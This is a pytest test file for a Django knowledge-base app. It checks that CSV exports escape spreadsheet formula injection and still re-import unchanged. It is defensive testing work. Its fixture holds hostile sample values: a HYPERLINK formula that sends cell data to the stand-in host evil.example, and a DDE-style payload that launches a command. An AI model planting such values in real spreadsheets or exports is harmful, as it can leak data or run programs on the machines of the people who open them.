"""The CSV export cannot carry a formula into a spreadsheet, and still imports unchanged."""

import csv
import io

import pytest

from kontakt.knowledge import transfer
from kontakt.knowledge.models import Article

from .factories import make_article

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def hostile(department_a) -> Article:
    """An article whose every text a spreadsheet would run as a formula."""
    return make_article(
        '=HYPERLINK("https://evil.example/?"&A1,"Öppna")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "- punkt ett\n- punkt två",
        department=department_a,
        keywords="+46 40 123 45, -1",
    )


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_no_exported_cell_begins_a_formula(hostile):
    header, row = cells(transfer.to_csv(transfer.export_queryset([hostile])))
    exported = dict(zip(header, row, strict=True))
    assert [cell for cell in row if cell.startswith(FORMULA_STARTS)] == []
    assert exported["title"] == "'" + hostile.title
    assert exported["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert exported["body"] == "'- punkt ett\n- punkt två"
    assert exported["keywords"] == "'+46 40 123 45, -1"


def test_the_escaped_export_imports_unchanged(hostile, tmp_path):
    (tmp_path / "all.csv").write_text(transfer.to_csv(transfer.export_queryset([hostile])))
    report = transfer.articles_import(transfer.read_paths([tmp_path]), by=None)
    assert (report.total, report.errors) == (1, [])
    imported = Article.objects.get()
    assert (imported.title, imported.summary, imported.keywords, imported.body.strip()) == (
        hostile.title,
        hostile.summary,
        hostile.keywords,
        hostile.body.strip(),
    )


def test_the_admin_export_is_escaped(client_for, administrator, hostile):
    response = client_for(administrator).post(
        "/admin/knowledge/article/",
        {"action": "export_csv", "_selected_action": [hostile.pk]},
    )
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="articles.csv"'
    _header, row = cells(response.content.decode())
    assert [cell for cell in row if cell.startswith(FORMULA_STARTS)] == []
